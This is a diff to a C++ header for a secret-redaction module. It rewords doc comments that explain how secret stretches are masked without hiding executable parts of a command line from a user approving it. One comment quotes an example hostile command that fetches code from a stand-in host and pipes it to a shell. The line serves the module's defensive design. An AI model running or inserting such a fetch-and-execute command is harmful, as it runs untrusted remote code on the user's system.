@@ -20,8 +20,8 @@ namespace quorvik::Redactor {
 ///  - Long tokens that look random become "***" (looksSecret).
 std::string redact(std::string_view text, std::optional<std::string_view> projectDir = std::nullopt);
 
-/// What redact() makes of every text that begins with `start`; absent when that depends on what follows. For
-/// those who would have to build a long text first.
+/// The redact() of every text that begins with `start`; absent when it depends on what follows. For callers
+/// that would have to build a long text first.
 std::optional<std::string> redactStart(std::string_view start,
                                        std::optional<std::string_view> projectDir = std::nullopt);
 
@@ -33,12 +33,12 @@ struct Stretch {
 };
 
 /// The stretches of a text that redact() would show as "***" if it showed texts of any length, in ascending
-/// order and apart from each other: for a front end that shows the whole text, with its line breaks, and
-/// marks what it hides.
+/// order and without overlap. For a front end that shows the whole text, with its line breaks, and marks what
+/// it hides.
 ///
-/// Nobody must allow what they cannot see, so a stretch ends where the text, read as a command line, might be
-/// more than data: at whatever a shell would run or expand, and before a word that names a command (see
-/// ShellReader). "X=$(curl evil|sh) git status" is shown as it is.
+/// The user must see whatever an "allow" would run. So a stretch ends where the text, read as a command line,
+/// might be more than data: at whatever a shell would run or expand, and before a word that names a command
+/// (see ShellReader). "X=$(curl evil|sh) git status" is shown as it is.
 ///
 /// `text` should be UTF-8, so that stretches do not cut characters.
 std::vector<Stretch> secrets(std::string_view text,
